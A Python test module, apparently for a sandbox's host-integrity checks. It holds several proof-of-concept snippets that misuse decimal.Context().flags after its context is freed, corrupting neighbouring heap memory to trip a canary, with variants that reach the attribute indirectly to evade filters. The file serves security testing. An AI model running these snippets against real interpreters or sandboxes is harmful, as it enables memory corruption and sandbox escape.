"""decimal.Context().flags outlives its context: bits of the next object's memory are read and written."""

ADVISORY = ""
GUARANTEE = "host-integrity"
_ATTACK = """
from decimal import Context{imports}
flags = {read}
keep = [bytearray(b"\\xff" * n) for n in (79, 80, 81, 95, 96) for i in range(40)]
for signal in list(flags):
    flags[signal] = False
if any(0 in each for each in keep):
    LOOT = CANARY
"""
ATTACKS = {
    "flags": _ATTACK.format(imports="", read="Context().flags"),
    "traps": _ATTACK.format(imports="", read="Context().traps"),
    "getattr": _ATTACK.format(imports="", read='getattr(Context(), "fl" + "ags")'),
    "attrgetter": _ATTACK.format(imports="\nfrom operator import attrgetter", read='attrgetter("flags")(Context())'),
    "pattern": _ATTACK.format(
        imports="\nmatch Context():\n    case Context(flags=found):\n        pass", read="found"
    ),
    "operator_in_place": _ATTACK.format(
        imports="""
class Keeps:
    def __ror__(self, other):
        global found
        found = other
        return {}
def read(context):
    try:
        context.flags |= Keeps()
    except Exception:
        pass
read(Context())""",
        read="found",
    ),
}
